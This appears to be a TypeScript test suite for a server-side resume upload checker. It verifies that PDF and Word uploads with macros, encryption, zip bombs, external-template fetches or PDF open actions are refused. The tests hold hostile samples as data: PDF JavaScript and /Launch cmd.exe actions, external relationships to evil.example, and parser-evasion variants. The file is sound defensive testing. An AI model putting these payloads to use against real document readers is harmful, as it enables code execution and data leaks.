import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import { randomBytes } from "node:crypto";
import { setImmediate } from "node:timers/promises";
import { deflateRawSync, deflateSync } from "node:zlib";
import fc from "fast-check";
import { describe, it } from "@std/testing/bdd";
import { newAttempt, timeOfAttempt } from "../../client/forms/attempt.ts";
import { sizeInMegabytes } from "../../client/forms/resume.ts";
import { applicationForm } from "../../content/forms/application.ts";
import { checkResume } from "../../server/forms/resume-check.ts";
import { resumePath } from "../../server/forms/resume-store.ts";
import { doc, docx, docxType, pdf, pdfText, wordParts, zip } from "../support/forms.ts";

const { messages } = applicationForm;

async function check(file: File): Promise<string | null> {
  return checkResume({ name: file.name, type: file.type, bytes: await file.bytes() });
}

/** Parts of a Word document that pack to a ninetieth. */
const padded = (megabytes: number) => ({
  "word/media/image1.jpg": randomBytes(megabytes * 1024 * 1024 / 90),
  "word/a.xml": Buffer.alloc(megabytes * 1024 * 1024),
});

const random = "0123456789abcdef".repeat(2);
const attempt = `1763708400000-${random}`;
const ada = { position: "Grant Writing Specialist", first_name: "Ada", last_name: "O'Neil Palmér" };

describe("a resume", () => {
  it("is taken as PDF, DOC and DOCX, by extension or, without one, by type", async () => {
    for (const file of [pdf(), doc(), docx(), pdf("resume"), pdf("cv.v2.pdf")]) {
      assert.equal(await check(file), null, file.name);
    }
    assert.equal(await check(new File([pdfText], "cv.pdf", { type: "" })), null);
  });

  it("of another kind is refused", async () => {
    for (const name of ["cv.odt", "cv.pdf.exe", "cv", ".pdfx"]) {
      assert.equal(await check(new File([pdfText], name)), messages.resumeType, name);
    }
  });

  it("that is empty is refused", async () => {
    assert.equal(await check(pdf("cv.pdf", "")), messages.resumeEmpty);
  });

  it("that is not what its name says is refused", async () => {
    const disguised = [
      pdf("cv.pdf", "<html>%PDF-1.7"),
      pdf("cv.docx"),
      docx("cv.pdf"),
      new File(["MZ"], "cv.doc"),
      docx("sheet.docx", { "[Content_Types].xml": "", "xl/workbook.xml": "" }),
      new File(["PK\x03\x04 and nothing of a zip file"], "cv.docx"),
    ];
    for (const file of disguised) assert.equal(await check(file), messages.resumeMismatch);
  });

  it("that is an encrypted PDF is refused, by trailer or cross-reference stream", async () => {
    const trailer = pdfText.replace("/Root", "/Encrypt 5 0 R/Root");
    const direct = pdfText.replace("/Root", "/Encrypt <</Filter/Standard>>/Root");
    const stream =
      "%PDF-1.7\n7 0 obj\n<</Type/XRef/Encrypt 5 0 R/Size 8>>stream\nxx\nendstream\nendobj";
    const reversed = stream.replace("/Type/XRef/Encrypt 5 0 R", "/Encrypt 5 0 R /Type /XRef");
    for (const text of [trailer, direct, stream, reversed]) {
      assert.equal(await check(pdf("cv.pdf", text)), messages.resumeEncrypted, text);
    }
  });

  it("may speak of encryption", async () => {
    const page = "4 0 obj\n<</Length 30>>stream\n(My paper on /Encrypt 5 0 R)\nendstream\nendobj\n";
    assert.equal(await check(pdf("cv.pdf", pdfText.replace("trailer", `${page}trailer`))), null);
    const metadata = pdfText.replace("/Root", "/EncryptMetadata true/Root");
    assert.equal(await check(pdf("cv.pdf", metadata)), null);
  });

  it("that unpacks to far more than it is, or hides how much, is refused", async () => {
    const word = (bytes: Buffer) => new File([bytes as BlobPart], "cv.docx", { type: docxType });
    const bomb = docx("cv.docx", { ...wordParts, "word/a.xml": Buffer.alloc(20 * 1024 * 1024) });
    const large = docx("cv.docx", { ...wordParts, ...padded(70) });
    const overlapping = zip(wordParts);
    const entry = overlapping.indexOf("PK\x01\x02");
    overlapping.writeUInt32LE(1_000_000, entry + 20);
    const encrypted = zip(wordParts);
    encrypted.writeUInt16LE(1, encrypted.indexOf("PK\x01\x02") + 8);
    const cut = zip(wordParts);
    cut.write("xx", cut.lastIndexOf("PK\x01\x02"));
    const files = [
      bomb,
      large,
      word(zip(wordParts, 0xffffffff)),
      word(overlapping),
      word(encrypted),
      word(cut),
    ];
    for (const file of files) assert.equal(await check(file), messages.resumeUnsafe);
  });

  it("holds nobody up while somebody looks inside it", async () => {
    const bomb = docx("cv.docx", { ...wordParts, ...padded(30) });
    for (const file of [bomb, pdf("cv.pdf", `%PDF-\n${"<<>>".repeat(1_000_000)}`)]) {
      let turns = 0;
      let isOver = false;
      const checked = check(file).finally(() => isOver = true);
      while (!isOver) {
        await setImmediate();
        turns++;
      }
      await checked;
      assert(turns > 8, `${turns} turns`);
    }
  });

  it("that unpacks to another size than it says is refused", async () => {
    const word = (bytes: Buffer) => new File([bytes as BlobPart], "cv.docx", { type: docxType });
    const parts = { ...wordParts, "word/a.xml": Buffer.alloc(20 * 1024 * 1024) };
    for (const size of [1, 100_000]) {
      assert.equal(await check(word(zip(parts, size))), messages.resumeUnsafe);
    }
    const elsewhere = zip(wordParts);
    elsewhere.writeUInt32LE(9, elsewhere.lastIndexOf("PK\x01\x02") + 42);
    const otherMethod = zip(wordParts);
    otherMethod.writeUInt16LE(99, otherMethod.indexOf("PK\x01\x02") + 10);
    const otherName = zip(wordParts);
    otherName.write("W", otherName.indexOf("word/document.xml"));
    const longerName = zip(wordParts);
    longerName.writeUInt16LE(
      "word/document.xm".length,
      longerName.indexOf("word/document.xml") - 4,
    );
    for (const bytes of [elsewhere, otherMethod, otherName, longerName]) {
      assert.equal(await check(word(bytes)), messages.resumeUnsafe);
    }
  });

  it("with a macro is refused, in either kind of Word document", async () => {
    const types = '<Types><Override ContentType="application/vnd.ms-office.vbaProject"/></Types>';
    const renamed = { ...wordParts, "word/fine.bin": Buffer.from(await doc().bytes()) };
    const holding = async (storage: string) =>
      new File([await doc().bytes(), Buffer.from(storage, "utf16le")], "cv.doc");
    // One byte, then nothing for long, then the rest.
    const dribble = (plain: Buffer) =>
      Buffer.concat([
        Buffer.from([0, 1, 0, 0xfe, 0xff, plain[0]!]),
        Buffer.alloc(100_000, Buffer.from([0, 0, 0, 0xff, 0xff])),
        deflateRawSync(plain.subarray(1)),
      ]);
    const files = [
      docx("cv.docx", { ...wordParts, "word/vbaProject.bin": "x" }),
      docx("cv.docx", { ...wordParts, "[Content_Types].xml": types, "word/fine.bin": "x" }),
      ...["vb&#97;Project", "vb&#x61;Project", "macr&#111;Enabled"].map((name) =>
        docx("cv.docx", { ...wordParts, "[Content_Types].xml": types.replace("vbaProject", name) })
      ),
      docx("cv.docx", { ...wordParts, "[content_types].XML": types }),
      docx("cv.docx", renamed),
      new File([zip(renamed, undefined, dribble)], "cv.docx"),
      await holding("_VBA_PROJECT"),
      await holding("_vba_Project"),
    ];
    for (const file of files) assert.equal(await check(file), messages.resumeActive);
    for (const name of ["EncryptedPackage", "ENCRYPTEDPACKAGE"]) {
      assert.equal(await check(await holding(name)), messages.resumeUnsafe);
    }
  });

  it("that is a Word document which fetches something when it is opened is refused", async () => {
    const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    const relation = (type: string, target: string) =>
      `<Relationships><Relationship TargetMode="External" Type="${office}/${type}" Id='"a"' ` +
      `Target="${target}"/></Relationships>`;
    const word = (rels: string | Buffer) =>
      docx("cv.docx", { ...wordParts, "word/_rels/settings.xml.rels": rels });
    const evil = "http://evil.example/t.dotm";
    const fetching = [
      relation("attachedTemplate", evil),
      relation("attachedTemplate", "file:///\\\\evil.example\\t.dotm"),
      relation("oleObject", `mhtml:${evil}!x`),
      relation("image", "file:///\\\\evil.example\\x.png"),
      relation("frame", evil),
      relation("ole&#79;bject", `${evil}?Type='/hyperlink'`),
      relation("frame", evil).replaceAll('"', "'"),
      Buffer.from(relation("subDocument", evil), "utf16le"),
    ];
    for (const rels of fetching) assert.equal(await check(word(rels)), messages.resumeUnsafe);
    const template = relation("attachedTemplate", evil);
    const evasive = [
      template.replace("/></", "/> Type='x/hyperlink'</"),
      template.replace("/></", "> Type='x/hyperlink'</Relationship></"),
      template.replace(" Id=", " a-Type='x/hyperlink' Id="),
      template.replace(" Id=", " q:a.Type='x/hyperlink' Id="),
      template.replace(" Id=", " a-Target='C:' Id="),
      template.replace(" Id=", " a:Type='x/hyperlink' Id="),
      template.replace(" Id=", " Type='x/hyperlink' Id="),
      template.replace(" Id=", " Name='>' Id=").replace("Type=", "Name='' Type="),
      template.replace("<R", "<!-- ' --><R").replace("/></", "/><!-- ' --></"),
      template.replace("<R", "<!DOCTYPE x [<!ENTITY e 'External'>]><R").replace("External", "&e;"),
      template.replace("TargetMode", "Target&#77;ode"),
      template.replace("External", "&#69;xternal"),
      template.replace("<R", "<?x <a b=' ?><R"),
      `<?xml version="1.0" encoding="utf-7"?>${template.replace("External", "Internal")}`,
      Buffer.from(
        `\ufeff${template.replace(" Id=", " a='\u2700 Type=\u2700/hyperlink' Id=")}`,
        "utf16le",
      ),
    ];
    for (const rels of evasive) {
      assert.equal(await check(word(rels)), messages.resumeUnsafe, `${rels}`);
    }
    const shouted = docx("cv.docx", { ...wordParts, "word/_rels/settings.xml.RELS": fetching[0]! });
    assert.equal(await check(shouted), messages.resumeUnsafe);
    const usual = [
      relation("hyperlink", "https://www.linkedin.com/in/ada"),
      relation("hyperlink", "https://county.example/o&#39;neil?a=1&amp;b=2"),
      relation("image", "https://county.example/logo.png"),
      relation("attachedTemplate", "file:///C:\\Users\\Ada\\Templates\\Resume.dotx"),
      relation("oleObject", "embeddings/chart.xlsx").replace("External", "Internal"),
      relation("hyperlink", "https://county.example/?a=1&amp;b=2>c"),
      `<?xml version='1.0' encoding='UTF-8' standalone='yes'?>\r\n${
        relation("hyperlink", "mailto:ada@county.example").replaceAll("><", ">\n  <")
      }\n`,
      Buffer.from(`\ufeff${relation("hyperlink", "https://county.example/é")}`),
      Buffer.from(`\ufeff${relation("hyperlink", "https://county.example/é")}`, "utf16le"),
    ];
    for (const rels of usual) assert.equal(await check(word(rels)), null, `${rels}`);
  });

  it("that is a PDF which acts when it is opened is refused, however that is written", async () => {
    const action = (text: string) =>
      pdf("cv.pdf", pdfText.replace("/Catalog", `/Catalog/OpenAction ${text}`));
    const script = "<</S/JavaScript/JS(app.alert(1))>>";
    const bytes = (text: string) => new File([Buffer.from(text, "latin1")], "cv.pdf");
    const packed = (dictionary: string, content = `2 0 ${script}`, around = "\n") =>
      pdfText.replace(
        "trailer",
        () =>
          `2 0 obj\n<<${dictionary}>>${around}stream${around}` +
          `${deflateSync(content).toString("latin1")}\nendstream\nendobj\ntrailer`,
      );
    const usual = "/Type/ObjStm/N 1/First 4/Filter/FlateDecode";
    const among = (text: string) => pdfText.replace("trailer", () => `${text}\ntrailer`);
    const files = [
      action("<</S/JavaScript/JS(app.alert(1))>>"),
      action("<</S /Java#53cript /JS 5 0 R>>"),
      action("<</S/Launch/F(cmd.exe)>>"),
      action("<</S/SubmitForm/F(http://evil.example)>>"),
      action("<</S/GoToE/F(\\\\\\\\evil.example\\\\x)>>"),
      action("<</Substream\n5/S/JavaScript/JS 5 0 R>>"),
      action("stream\n<</S/JavaScript/JS 5 0 R>>"),
      action("<</S/Rendition/JS 5 0 R>>"),
      // Readers find an object by its place, whatever stands around it.
      bytes(among(`<<>>stream\n2 0 obj\n${script}\nendobj\nendstream`)),
      bytes(packed(usual)),
      bytes(packed(usual, undefined, "\r")),
      bytes(packed("/Filter[/FlateDecode]/Length 5 0 R/N 1/First 4")),
      bytes(packed("/Type/ObjStm/N 2/First 8/Filter/FlateDecode", `2 0 3 4 <<( ${script})>>`)),
    ];
    for (const file of files) assert.equal(await check(file), messages.resumeActive);
    const escaped = pdfText.replace("/Root", "/Encr#79pt 5 0 R/Root");
    assert.equal(await check(pdf("cv.pdf", escaped)), messages.resumeEncrypted);
    const unsafe = [
      packed(usual, " ".repeat(40 * 1024 * 1024)),
      packed("/Type/Obj#53tm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]"),
      packed(`${usual}/DecodeParms<</Predictor 12/Columns 3>>`),
      packed("/N 1/First 4/Filter 9 0 R"),
      packed(usual, undefined, "%\n"),
      among(`(\n2 0 obj\n${script}\nendobj`),
      packed(`${usual}%1 obj (\n`),
      Array.from({ length: 501 }, () => packed(usual, "2 0 <<>>")).join("\n"),
      `%PDF-1.7\n${"1 obj ".repeat(60_000)}`,
    ];
    for (const text of unsafe) assert.equal(await check(bytes(text)), messages.resumeUnsafe);
  });

  it("may speak of scripts", async () => {
    const object = "4 0 obj\n<</Length 30/Title(I write /JavaScript \\) (and /Launch))>>stream\n" +
      "(/JavaScript)\nendstream\nendobj\n% /JavaScript\n";
    assert.equal(await check(pdf("cv.pdf", pdfText.replace("trailer", `${object}trailer`))), null);
  });

  it("may hold links and attachments", async () => {
    for (const name of ["URI", "GoToR", "EmbeddedFiles"]) {
      assert.equal(
        await check(pdf("cv.pdf", pdfText.replace("/Root", `/${name} 5 0 R/Root`))),
        null,
      );
    }
  });

  it("of any bytes gets an answer", async () => {
    await fc.assert(fc.asyncProperty(
      fc.constantFrom("pdf", "doc", "docx"),
      fc.constantFrom("", "%PDF-", "PK\x03\x04", "PK\x03\x04PK\x01\x02"),
      fc.uint8Array({ maxLength: 400 }),
      fc.boolean(),
      async (extension, start, rest, ended) => {
        const end = ended ? Buffer.from("PK\x05\x06" + "\x01".repeat(18)) : Buffer.alloc(0);
        const bytes = new Uint8Array(Buffer.concat([Buffer.from(start, "latin1"), rest, end]));
        const answer = await checkResume({ name: `cv.${extension}`, type: "", bytes });
        assert(answer === null || answer.length > 10);
      },
    ));
  });

  it("is shown with its size in MB to two decimals", () => {
    assert.equal(sizeInMegabytes(10 * 1024 * 1024), "10.00");
    assert.equal(sizeInMegabytes(262_144), "0.25");
  });
});

describe("the stored name", () => {
  it("is timestamp, position, names and extension (SPEC §3), with 128 random bits", () => {
    assert.equal(
      resumePath(ada, "My CV.PDF", attempt),
      `1763708400000-grant-writing-specialist-ada-o-neil-palm-r-${random}.pdf`,
    );
  });

  it("says role without a position, and bin without an extension", () => {
    const path = resumePath({ ...ada, position: null }, "resume", attempt);
    assert.equal(path, `1763708400000-role-ada-o-neil-palm-r-${random}.bin`);
  });

  it("is one that the bucket accepts, whatever is typed", () => {
    const accepted = /^[0-9]{10,17}[-_][a-z0-9_-]*\.[A-Za-z0-9]{1,8}$/;
    const text = fc.string({ unit: "grapheme", maxLength: 100 }).map((text) => text.slice(0, 100));
    const position = fc.constantFrom(null, ...applicationForm.fields.position.options);
    fc.assert(fc.property(position, text, text, text, (position, first_name, last_name, name) => {
      const path = resumePath({ position, first_name, last_name }, name, attempt);
      assert.match(path, accepted);
      assert(path.length <= 300);
    }));
  });

  it("has other random bits for every attempt", () => {
    const names = Array.from({ length: 100 }, newAttempt);
    assert.equal(new Set(names.map((name) => name.split("-")[1])).size, 100);
    for (const name of names) assert(Math.abs(timeOfAttempt(name)! - Date.now()) < 60_000);
    for (
      const wrong of ["", "1763708400000", `${attempt}0`, attempt.toUpperCase(), `x${attempt}`]
    ) {
      assert.equal(timeOfAttempt(wrong), null, wrong);
    }
  });
});
